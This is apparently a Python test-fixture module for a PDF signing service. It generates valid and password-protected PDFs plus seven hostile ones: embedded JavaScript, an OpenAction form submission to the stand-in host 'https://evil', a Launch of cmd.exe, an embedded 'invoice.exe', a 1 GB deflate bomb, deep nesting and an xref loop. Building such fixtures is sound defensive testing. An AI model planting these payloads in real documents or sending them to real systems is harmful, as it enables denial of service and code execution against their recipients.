"""Small PDFs made from scratch, so tests need no fixture files: valid ones,
and the hostile ones a partner system might send."""

import functools
import zlib

__all__ = ["HOSTILE", "hostile_pdf", "make_encrypted_pdf", "make_pdf"]


def make_pdf(
    pages: int = 1,
    text: str = "Paraaf test document",
    *,
    placeholder: str | None = None,
    catalog: bytes = b"",
    objects: dict[int, bytes] | None = None,
) -> bytes:
    """An A4 PDF with ``pages`` pages of Helvetica text (and ``placeholder`` on the last page); ``catalog`` is added
    to the document catalog and ``objects`` (numbered from 100) to the file."""
    font_id = 3
    page_ids = [5 + 2 * i for i in range(pages)]
    body: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: f"<< /Type /Pages /Kids [{' '.join(f'{p} 0 R' for p in page_ids)}] /Count {pages} >>".encode(),
        font_id: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    }
    for number, page_id in enumerate(page_ids, start=1):
        content_id = page_id - 1
        lines = [f"{text} - page {number} of {pages}"]
        if placeholder and number == pages:
            lines.append(placeholder)
        stream = ("BT /F1 14 Tf 72 770 Td " + " ".join(f"({line}) Tj 0 -24 Td" for line in lines) + " ET").encode()
        body[content_id] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
        body[page_id] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {content_id} 0 R"
            f" /Resources << /Font << /F1 {font_id} 0 R >> >> >>"
        ).encode()
    return _serialised({**body, **(objects or {})})


def _serialised(body: dict[int, bytes], *, xref_loop: bool = False) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for obj_id in sorted(body):
        offsets[obj_id] = len(out)
        out += b"%d 0 obj\n" % obj_id + body[obj_id] + b"\nendobj\n"
    xref = len(out)
    size = max(body) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for obj_id in range(1, size):
        out += b"%010d 00000 n \n" % offsets[obj_id] if obj_id in offsets else b"0000000000 65535 f \n"
    previous = b" /Prev %d" % xref if xref_loop else b""  # the section names itself as the one before it
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


def _stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


@functools.cache
def _zeros_deflated(megabytes: int) -> bytes:
    inflater = zlib.compressobj(9)
    chunk = bytes(1_048_576)
    return b"".join(inflater.compress(chunk) for _ in range(megabytes)) + inflater.flush()


def hostile_pdf(kind: str, *, bomb_mb: int = 1024, depth: int = 100_000) -> bytes:
    """One of :data:`HOSTILE`: a PDF that opens in a viewer but must not be signed (or even fully read)."""
    if kind == "javascript":
        return make_pdf(
            catalog=b"/Names << /JavaScript << /Names [(run) 100 0 R] >> >>",
            objects={100: b"<< /S /JavaScript /JS (app.alert('signed?')) >>"},
        )
    if kind == "open_action_javascript":
        return make_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (this.submitForm('https://evil')) >>")
    if kind == "launch":
        return make_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    if kind == "embedded_file":
        return make_pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 100 0 R] >> >>",
            objects={
                100: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 101 0 R >> >>",
                101: _stream(b"MZ", b"/Type /EmbeddedFile"),
            },
        )
    if kind == "bomb":
        return make_pdf(catalog=b"/Bomb 100 0 R", objects={100: _stream(_zeros_deflated(bomb_mb), b"/Filter /FlateDecode")})
    if kind == "deep_array":
        return make_pdf(catalog=b"/Deep " + b"[" * depth + b"]" * depth)
    if kind == "xref_loop":
        return _serialised({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}, xref_loop=True)
    raise ValueError(f"no hostile PDF `{kind}`; choose one of {', '.join(HOSTILE)}")


HOSTILE = ("javascript", "open_action_javascript", "launch", "embedded_file", "bomb", "deep_array", "xref_loop")


def make_encrypted_pdf(password: str = "geheim") -> bytes:
    """A PDF that opens only with a password."""
    import io

    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(make_pdf())))
    writer.encrypt(password, password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
